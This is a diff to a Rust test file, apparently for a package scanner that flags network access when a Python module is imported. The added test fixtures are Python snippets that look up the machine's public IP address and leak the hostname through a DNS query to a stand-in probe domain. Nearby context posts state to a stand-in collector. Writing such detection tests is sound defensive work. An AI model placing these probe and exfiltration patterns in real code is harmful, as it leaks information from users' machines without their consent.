@@ -139,6 +139,11 @@ fn a_module_fetching_a_program_running_it_or_beaconing_on_import_stays_high() {
     assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
     let r = module("import requests\nfrom acme import state\nr = requests.get(\n    'https://collector.example.net/log',\n    data=state,\n)\n");
     assert_eq!(hits(&r, "access/network-on-install", MOD), [(3, High)]);
+    // A probe: the machine's public address, or a download beside a host name sent by DNS.
+    let r = module("import httpx\nip = httpx.get('https://api.ipify.org').text\n");
+    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, High)]);
+    let r = module("import requests, socket\nr = requests.get('https://intranet.example.com/')\nsocket.gethostbyname(f'{r.status_code}.{socket.gethostname()}.probe.example.net')\n");
+    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, High)]);
     // The same download from setup.py is a build step, judged as such.
     let r = setup_py(WORD_LIST);
     assert_eq!(hits(&r, "access/network-on-install", SETUP), [(6, High)]);
